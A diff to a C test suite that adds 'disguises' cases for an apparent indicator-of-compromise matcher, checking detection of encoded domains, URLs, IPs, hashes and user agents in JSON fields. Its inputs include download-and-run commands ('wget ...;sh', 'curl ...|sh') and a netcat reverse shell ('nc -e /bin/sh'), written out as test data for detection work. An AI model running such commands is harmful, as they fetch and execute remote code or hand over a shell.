@@ -135,6 +135,53 @@ TEST(others)
     CHECK_CASES(cases);
 }
 
+#define HASH "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb1"
+
+TEST(disguises)
+{
+    static const struct observe_case cases[] = {
+        {"{\"a\":\"curl http://x.example/?u=https://evil.example/p\"}", "domain", "evil.example",
+         true},
+        {"{\"a\":\"curl http://x.example/?u=https://evil.example/p&b=1\"}", "url",
+         "https://evil.example/p", true},
+        {"{\"a\":\"curl http://x.example/?u=https://evil.example/p\"}", "url",
+         "http://x.example/?u=https://evil.example/p", true},
+        {"{\"a\":\"http://x.example/?u=https%3A%2F%2Fevil.example%2F\"}", "domain", "evil.example",
+         true},
+        {"{\"a\":\"u=https%253A%252F%252Fevil.example%252Fa\"}", "url", "https://evil.example/a",
+         true},
+        {"{\"a\":\"u=https%25253A%25252F%25252Fevil.example%25252Fa\"}", "url",
+         "https://evil.example/a", false},
+        {"{\"raw_query\":\"next=http%3A%2F%2F203.0.113.7%2Flogin\"}", "ip", "203.0.113.7", true},
+        {"{\"a\":\"mallory%40evil.example\"}", "email", "mallory@evil.example", true},
+        {"{\"a\":\"100%evil\"}", "domain", "evil", false},
+        {"{\"a\":\"u LIKE '%evil.example%'\"}", "domain", "evil.example", true},
+        {"{\"a\":\"u LIKE '%notevil.example%'\"}", "domain", "evil.example", false},
+        {"{\"a\":\"{\\\"u\\\":\\\"http:\\\\/\\\\/evil.example\\\\/x\\\"}\"}", "url",
+         "http://evil.example/x", true},
+        {"{\"a\":\"wget http://h.example/a;sh a\"}", "url", "http://h.example/a", true},
+        {"{\"a\":\"curl http://h.example/a&&sh\"}", "url", "http://h.example/a", true},
+        {"{\"a\":\"x http://h.example/a,http://b.example/c\"}", "url", "http://h.example/a", true},
+        {"{\"a\":\"x http://h.example/a,http://b.example/c\"}", "url", "http://b.example/c", true},
+        {"{\"a\":\"x http://h.example/a,b\"}", "url", "http://h.example/a,b", true},
+        {"{\"a\":\"x http://h.example/ab;c\"}", "url", "http://h.example/a", false},
+        {"{\"path\":\"/tmp/" HASH ".bin\"}", "hash", HASH, true},
+        {"{\"a\":\"cp a a_" HASH "\"}", "hash", HASH, true},
+        {"{\"a\":\"x 0x" HASH "\"}", "hash", HASH, true},
+        {"{\"a\":\"x 0x" HASH "0\"}", "hash", HASH, false},
+        {"{\"a\":\"x y" HASH ".bin\"}", "hash", HASH, false},
+        {"{\"headers\":{\"User-Agent\":[\"EvilAgent/7\"]}}", "agent", "EvilAgent/7", true},
+        {"{\"headers\":{\"user_agent\":\"EvilAgent/7\"}}", "agent", "EvilAgent/7", true},
+        {"{\"headers\":{\"X-User-Agent\":\"EvilAgent/7\"}}", "agent", "EvilAgent/7", false},
+        {"{\"path\":\"C:\\\\x\\\\EVIL.EXE\"}", "file", "c:\\x\\evil.exe", true},
+        {"{\"path\":\"/x/Evil.EXE\"}", "file", "/x/evil.exe", true},
+        {"{\"path\":\"/x/Evil.EXE\"}", "file", "/x/Evil.EXE", true},
+        {"{\"path\":\"/x/Evil.sh\"}", "file", "/x/evil.sh", false},
+        {"{\"command\":\"nc -e /bin/sh 203.0.113.7\"}", "file", "nc -e /bin/sh 203.0.113.7", true},
+    };
+    CHECK_CASES(cases);
+}
+
 TEST(hidden_in_base64)
 {
     /* curl http://203.0.113.9/x.sh | sh; once, twice, and as PowerShell writes it */
@@ -154,5 +201,5 @@ TEST(hidden_in_base64)
     EXPECT(open.found && !open.decoded);
 }
 
-TEST_MAIN(TEST_ENTRY(addresses), TEST_ENTRY(names), TEST_ENTRY(others),
+TEST_MAIN(TEST_ENTRY(addresses), TEST_ENTRY(names), TEST_ENTRY(others), TEST_ENTRY(disguises),
           TEST_ENTRY(hidden_in_base64))
